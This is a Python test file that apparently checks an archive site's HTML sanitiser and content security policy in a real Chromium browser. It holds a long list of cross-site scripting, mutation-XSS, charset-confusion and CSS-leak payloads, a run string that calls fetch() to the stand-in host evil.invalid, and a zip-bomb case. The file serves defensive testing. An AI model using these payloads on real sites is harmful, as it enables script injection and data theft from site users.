"""What a stored body may try, and what comes of it: nothing runs, nothing is loaded, sent or opened.

Each attack is shown to a real browser twice: as the site shows it, without the frame's policy (so that what the page
lost is enough), and as it was kept, with the policy (so that the policy is enough).
"""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import html

from archive.evidence.inert import ANCHOR
from archive.evidence.view import View, look
from archive.site.guarding import guard
from archive.site.reports.body import kind_of
from parsers.model import Place

EVIL = "http://evil.invalid"
#: Markup that runs, loads, sends or leads somewhere in one browser or another.
ATTACKS = {
    "script": "<script>RUN</script>",
    "script of elsewhere": f"<script src={EVIL}/a.js></script>",
    "script in capitals, not closed": "<SCRIPT>RUN//",
    "script in a script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script behind a broken tag": '<img """><script>RUN</script>">',
    "script in svg": "<svg><script>RUN</script></svg>",
    "script in svg as data": "<svg><script href='data:text/javascript,RUN'/></svg>",
    "module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "image that fails": "<img src=x onerror=RUN>",
    "image, slashes for blanks": "<img/src=x/onerror=RUN>",
    "image with a control character": "<img src=x on\x0cerror=RUN>",
    "image set": f"<img srcset='{EVIL}/a.png 1x'>",
    "picture": f"<picture><source srcset='{EVIL}/a.png'><img></picture>",
    "input picture": f"<input type=image src={EVIL}/a.png onfocus=RUN autofocus>",
    "body events": "<body onload=RUN onpageshow=RUN onhashchange=RUN>",
    "body background": f"<body background={EVIL}/b.png>",
    "table background": f"<table background={EVIL}/b.png><tr><td background={EVIL}/c.png>1</table>",
    "svg events": "<svg onload=RUN></svg>",
    "svg animation": f"<svg><a xlink:href='{EVIL}'><animate attributeName=href values=javascript:RUN /></a></svg>",
    "svg use": f"<svg><use href='{EVIL}/a.svg#x'/></svg>",
    "svg image": f"<svg><image href='{EVIL}/a.png'/></svg>",
    "foreign object": f"<svg><foreignObject><iframe src='{EVIL}'></iframe></foreignObject></svg>",
    "mathml": f"<math href='{EVIL}'><mi xlink:href='javascript:RUN'>x</mi></math>",
    "mutation by mglyph": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=RUN>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "mutation by title": "<title><a title='</title><img src=x onerror=RUN>'></title>",
    "mutation by template": "<template><p title='</template><img src=x onerror=RUN>'></template>",
    "mutation by textarea": "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "mutation by select": "<select><option><style></option></select><img src=x onerror=RUN></style>",
    "mutation by comment": "<!--><img src=x onerror=RUN>-->",
    "mutation by cdata": "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
    "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "plaintext": "<plaintext><img src=x onerror=RUN>",
    "frame": f"<iframe src={EVIL}></iframe>",
    "frame with its page": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "frame of script": "<iframe src='javascript:RUN'></iframe>",
    "frameset": f"<frameset><frame src={EVIL}></frameset>",
    "object": f"<object data={EVIL}/a.swf type=application/x-shockwave-flash></object>",
    "object of data": "<object data='data:text/html,<script>RUN</script>'></object>",
    "embed": f"<embed src={EVIL}/a.pdf>",
    "applet": f"<applet code=A archive={EVIL}/a.jar></applet>",
    "portal": f"<portal src={EVIL}></portal>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/a.css>",
    "links that load": f"<link rel=prefetch href={EVIL}/p><link rel=preload as=image href={EVIL}/q.png>"
    f"<link rel=icon href={EVIL}/i.ico><link rel=modulepreload href={EVIL}/m.js><link rel=manifest href={EVIL}/m>",
    "names looked up": f"<link rel=dns-prefetch href=//evil.invalid><link rel=preconnect href={EVIL}>",
    "import of styles": f"<style>@import '{EVIL}/a.css';</style>",
    "address in styles": f"<style>td{{background:url({EVIL}/a.png)}}</style><table><tr><td>1</table>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}*{{font-family:x}}</style>字",
    "address in a style": f"<p style='background:url({EVIL}/a.png)'>1",
    "address in a style, escaped": f"<p style='background:\\75rl({EVIL}/a.png)'>1",
    "image-set in a style": f"<p style='background-image:image-set(\"{EVIL}/a.png\" 1x)'>1",
    "cursor in a style": f"<p style='cursor:url({EVIL}/c.cur),auto;list-style:url({EVIL}/l.png)'>1",
    "style that speaks": f"<input value=7><style>input[value^='7']{{background:url({EVIL}/7)}}</style>",
    "style end in a style": "<p style='text-align:center}</style><script>RUN</script>'>1",
    "old styles that run": f'<p style="width:expression(RUN);behavior:url({EVIL}/a.htc);-moz-binding:url({EVIL}/b)">1',
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "refresh to script": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "policy of its own": f'<meta http-equiv=Content-Security-Policy content="report-uri {EVIL}">',
    "base": f"<base href={EVIL}/><img src=a.png>",
    "form": f"<form action={EVIL} id=f><input name=a value=b autofocus><button formaction={EVIL}>1</button></form>",
    "video": f"<video src={EVIL}/v.mp4 poster={EVIL}/p.png autoplay onerror=RUN></video>",
    "audio": f"<audio src={EVIL}/a.mp3 autoplay><source src={EVIL}/b.mp3 onerror=RUN></audio>",
    "track": f"<video><track default src={EVIL}/t.vtt></video>",
    "details": "<details open ontoggle=RUN><summary>1</summary></details>",
    "marquee": "<marquee onstart=RUN behavior=alternate>1</marquee>",
    "focus": "<p tabindex=1 autofocus onfocus=RUN>1</p>",
    "animation event": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=RUN>1",
    "popover": "<button popovertarget=x>1</button><p popover id=x onbeforetoggle=RUN>1",
    "entities in an attribute": "<a href='&#106;avascript&colon;RUN' autofocus onfocus=RUN>1</a>",
    "ping": f"<a href=# ping={EVIL}>1</a>",
    "manifest": f"<html manifest={EVIL}/m>",
    "processing instruction": f"<?xml-stylesheet href='{EVIL}/a.xsl' type='text/xsl'?><p>1",
    "namespace": "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>RUN</x:script>",
    "tag of the site's own": "<x-y onclick=RUN is=x-z>1</x-y>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    "speculation": f'<script type=speculationrules>{{"prerender":[{{"urls":["{EVIL}/s"]}}]}}</script>',
    "the anchor": f"<p id={ANCHOR}>1</p><p gongkai-mark=''>2</p>",
    "null characters": "<scr\0ipt>RUN</scr\0ipt><img src=x o\0nerror=RUN>",
}
RUN = f"window.ran=1;document.title='ran';fetch('{EVIL}/ran')"
TABLE = "<table><tr><td>自然人</td><td>25</td></tr></table>"
PAGES = {name: f"{attack}{TABLE}".replace("RUN", RUN) for name, attack in ATTACKS.items()}

#: What a browser does with characters that are not what they say they are.
CHARSETS = {
    "UTF-7": b"+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "UTF-7 that says so": b"<meta charset=utf-7>+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "Japanese escapes": b"<meta charset=iso-2022-jp><p title='\x1b$B'>\x1b(B<img src=x onerror=window.ran=1>",
    "half a character eats a quote": b"<meta charset=gbk><p title='\xc4'><img src=x onerror='window.ran=1'>",
    "signs that look like others": "＜script＞window.ran=1＜/script＞".encode("gb18030"),
}
CHARSETS = {name: attack + TABLE.encode("gb18030") for name, attack in CHARSETS.items()}
CHARSETS["UTF-16"] = f"\ufeff<script>window.ran=1</script>{TABLE}".encode("utf-16-le")

#: The frame is the test's own, not the site's.
POLICY = guard.BODY_POLICY.replace("frame-ancestors 'self'; ", "")
ATTRIBUTES = {"colspan", "rowspan", "align", "valign", "lang", "style", "title", "hidden", "id"}


def shown(body: bytes | str) -> View:
    return look(body if isinstance(body, bytes) else body.encode(), None)


@pytest.mark.parametrize("name", PAGES)
def test_only_what_is_listed_is_left(name: str) -> None:
    page = html.document_fromstring(shown(PAGES[name]).markup)
    for element in page.body.iter():
        assert isinstance(element.tag, str)
        assert element.tag not in ("script", "style", "link", "meta", "iframe", "img", "input", "svg", "form")
        assert set(element.keys()) <= ATTRIBUTES, element.tag
        assert "url" not in (element.get("style") or "")
        assert element.get("id") is None  # nothing was asked to be marked
    assert "25" in page.text_content()


CHROMIUM = Path("/usr/bin/chromium")
ADDRESS = "http://kept.invalid/"


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    if not CHROMIUM.exists():
        pytest.skip("Chromium is not installed")
    with playwright.sync_playwright() as started:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking"]
        opened = started.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield opened
        opened.close()


def opened(browser, bodies: dict[str, bytes], headers: dict[str, str]) -> dict[str, set[str]]:
    """Open bodies side by side, each in a frame; return what each did that it must not."""
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    page = context.new_page()
    kept = {f"{ADDRESS}{number}": name for number, name in enumerate(bodies)}
    did: dict[str, set[str]] = {}
    frames = "".join(f"<iframe name='{number}' src='{at}'></iframe>" for number, at in enumerate(kept))

    def answer(route) -> None:
        asked = route.request
        if asked.url == ADDRESS:
            route.fulfill(body=f"<!doctype html>{frames}", headers={"content-type": "text/html; charset=utf-8"})
        elif asked.url in kept and asked.method == "GET":
            route.fulfill(body=bodies[kept[asked.url]], headers=headers)
        else:
            did.setdefault(kept.get(f"{ADDRESS}{asked.frame.name}", "?"), set()).add(asked.url)
            route.abort()

    context.route("**/*", answer)
    page.on("dialog", lambda dialog: (did.setdefault("?", set()).add(dialog.message), dialog.dismiss()))
    context.on("page", lambda other: did.setdefault("?", set()).add(f"opened {other.url}"))
    page.goto(ADDRESS, wait_until="load")
    page.wait_for_timeout(300)
    for frame in page.frames[1:]:
        if name := kept.get(frame.url):
            ran, elements = frame.evaluate("[window.ran, document.querySelectorAll('*').length]")
            if ran is not None or not elements:
                did.setdefault(name, set()).add("ran")
    assert {frame.name for frame in page.frames[1:]} >= set(map(str, range(len(bodies))))
    context.close()
    return did


BROWSER = [pytest.mark.browser, pytest.mark.xdist_group("browser")]


class TestInABrowser:
    pytestmark = BROWSER

    def test_what_is_shown_does_nothing_even_without_the_policy(self, browser) -> None:
        pages = {name: shown(page).markup.encode() for name, page in (PAGES | CHARSETS).items()}
        assert opened(browser, pages, {"content-type": "text/html; charset=utf-8"}) == {}

    @pytest.mark.long
    def test_the_policy_alone_holds_what_was_kept(self, browser) -> None:
        headers = {"content-type": "text/html; charset=utf-8", "content-security-policy": POLICY}
        pages = {name: page.encode() for name, page in PAGES.items()}
        assert opened(browser, pages, headers) == {}

    def test_the_attacks_are_attacks(self, browser) -> None:
        """Without either, nearly all of a few do what they try: the tests above would see it."""
        names = ["script", "image that fails", "svg events", "style sheet", "address in a style", "refresh", "base"]
        done = opened(browser, {name: PAGES[name].encode() for name in names}, {"content-type": "text/html"})
        assert set(done) == set(names)


@pytest.mark.parametrize("name", CHARSETS)
def test_characters_are_decoded_once_and_never_again(name: str) -> None:
    page = html.document_fromstring(shown(CHARSETS[name]).markup)
    assert page.xpath("//script | //img | //@onerror") == []
    assert "25" in page.text_content()


def test_a_body_of_megabytes_is_answered_within_seconds() -> None:
    rows = "".join(f"<tr>{'<td>7</td>' * 10}</tr>" for _ in range(1900))
    body = f"<html>{'<p>段落里的字。</p>' * 40_000}<table>{rows}<tr><td>这里</td></tr></table></html>".encode()
    assert len(body) > 1_000_000
    began = time.monotonic()
    seen = look(body, None, place=Place(0, 1900, 0))
    assert (seen.marked, seen.text) == (True, "这里")
    assert time.monotonic() - began < 10


def test_a_long_reading_shows_the_stretch_around_the_cell() -> None:
    text = "\n".join("一行字。" for _ in range(25_000)) + "\n规章\t7\n行政规范性文件\t8\n"
    seen = look(text.encode(), None)
    assert seen.how == "reading"
    assert len(seen.markup) < 600_000


def test_a_bomb_in_a_zip_is_not_unpacked() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"0" * 100_000_000)
    assert len(packed.getvalue()) < 150_000
    assert look(packed.getvalue(), None).how == "nothing"


@pytest.mark.parametrize("body", [b"", b"\0" * 100, b"%PDF-1.4 broken", b"PK\x03\x04", b"{\\rtf1", b"\xd0\xcf\x11\xe0"])
def test_what_cannot_be_read_is_for_download_only(body: bytes) -> None:
    assert "<body>" in look(body, None, place=Place(0, 0, 0)).markup
    assert not look(body, None, place=Place(0, 0, 0)).marked


def test_a_page_saved_as_one_file_is_shown_as_read_and_never_as_it_is_written() -> None:
    """Its parts may be anything, written in any way: only lines and tables come through."""
    part = f"<img src={EVIL}/a.png onerror=RUN><script>RUN</script><p>正文</p>{TABLE}"
    body = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
        f"Content-Type: text/html; charset=utf-8\r\nContent-Location: {EVIL}\r\n\r\n{part}\r\n--x\r\n"
        "Content-Type: text/html\r\n\r\n<script>RUN</script>\r\n--x--\r\n"
    ).encode()
    seen = look(body, None, place=Place(0, 0, 1))
    assert (seen.how, seen.kind, seen.marked, seen.text) == ("reading", "mht", True, "25")
    assert EVIL not in seen.markup and "RUN" not in seen.markup
    assert kind_of(body, "text/plain") == "mht"  # so that the page around it frames this, and not its source
